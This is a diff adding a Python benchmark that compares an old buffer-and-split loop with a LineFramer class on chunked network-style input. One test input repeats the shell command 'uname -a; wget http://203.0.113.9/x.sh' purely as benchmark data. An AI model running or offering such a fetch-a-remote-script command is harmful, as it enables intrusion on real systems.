@@ -0,0 +1,78 @@
+#!/usr/bin/env python3
+"""bench_line_framer.py - Old `buffer += chunk; split` loop vs LineFramer.
+
+Feeds each input in 4 KiB recv-sized chunks and reports MB/s and peak
+buffer size for:
+  short:    many short command lines
+  long:     a few megabyte-sized lines
+  nonl:     a stream that never sends a newline (the old loop buffers it all)
+
+Usage:
+  python scripts/bench_line_framer.py --mb 4
+"""
+import argparse
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from src.line_framer import LineFramer
+
+CHUNK = 4096
+
+
+def old_loop(chunks):
+    """The per-connection loop the orchestrator used before LineFramer."""
+    buffer = b""
+    lines = peak = 0
+    for chunk in chunks:
+        buffer += chunk
+        peak = max(peak, len(buffer))
+        while b"\n" in buffer:
+            line, buffer = buffer.split(b"\n", 1)
+            lines += 1
+    return lines, peak
+
+
+def framer_loop(chunks):
+    framer = LineFramer(budget=0)
+    lines = peak = 0
+    for chunk in chunks:
+        framer.push(chunk)
+        peak = max(peak, framer.pending())
+        while framer.pop_line() is not None:
+            lines += 1
+    return lines, peak
+
+
+def inputs(mb):
+    size = mb * 1024 * 1024
+    short = b"uname -a; wget http://203.0.113.9/x.sh\n"
+    return {
+        "short": short * (size // len(short)),
+        "long": (b"A" * (1024 * 1024 - 1) + b"\n") * mb,
+        "nonl": b"B" * size,
+    }
+
+
+def chunked(data):
+    return [data[i:i + CHUNK] for i in range(0, len(data), CHUNK)]
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--mb", type=int, default=4, help="megabytes fed per input")
+    args = ap.parse_args()
+
+    print(f"{'input':<8}{'loop':<10}{'MB/s':>10}{'lines':>10}{'peak buffer':>14}")
+    for name, data in inputs(args.mb).items():
+        chunks = chunked(data)
+        for label, fn in (("split", old_loop), ("framer", framer_loop)):
+            t0 = time.perf_counter()
+            lines, peak = fn(chunks)
+            dt = time.perf_counter() - t0
+            print(f"{name:<8}{label:<10}{len(data) / dt / 1e6:>10.1f}{lines:>10}{peak:>14}")
+
+
+if __name__ == "__main__":
+    main()